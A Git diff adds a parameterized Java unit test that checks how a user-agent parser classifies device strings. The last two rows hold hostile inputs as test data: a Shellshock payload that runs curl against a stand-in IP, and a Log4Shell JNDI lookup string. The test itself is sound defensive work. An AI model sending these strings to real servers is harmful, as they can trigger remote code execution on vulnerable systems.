@@ -34,6 +34,28 @@ class UserAgentsTest {
     assertThat(device.type()).isEqualTo(Device.ROBOT);
   }
 
+  /** Yauaa says Hacker of what it cannot read, and robot of a name or address that looks so. */
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      textBlock =
+          """
+          OTHER | MAUI WAP Browser
+          OTHER | SAMSUNG-SGH-E500
+          OTHER | HTC TyTN P4550
+          PHONE | HideMe.mobi Browser NokiaN72/5.0819.4.0.1 Series60/2.8 Profile/MIDP-2.0 Configuration/CLDC-1.1
+          PHONE | Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36
+          PHONE | Mozilla/5.0 (Linux; Android 6.0; B BOT 550 Build/MRA58K; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/53.0.2785.124 Mobile Safari/537.36
+          ROBOT | Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
+          ROBOT | DoCoMo/2.0 N905i(c100;TB;W24H16) (compatible; Googlebot-Mobile/2.1; +http://www.google.com/bot.html)
+          ROBOT | sqlmap/1.7.8#stable (https://sqlmap.org)
+          ROBOT | () { :;}; /bin/bash -c "curl http://198.51.100.7/a"
+          ROBOT | ${jndi:ldap://198.51.100.7/a}
+          """)
+  void saysRobotOnlyOfRobotsAndAttacks(String type, String userAgent) {
+    assertThat(device(userAgent).type()).isEqualTo(type);
+  }
+
   @Test
   void saysUnknownWithoutAUserAgentAndTakesAnyText() {
     assertThat(device(null).type()).isEqualTo("UNKNOWN");
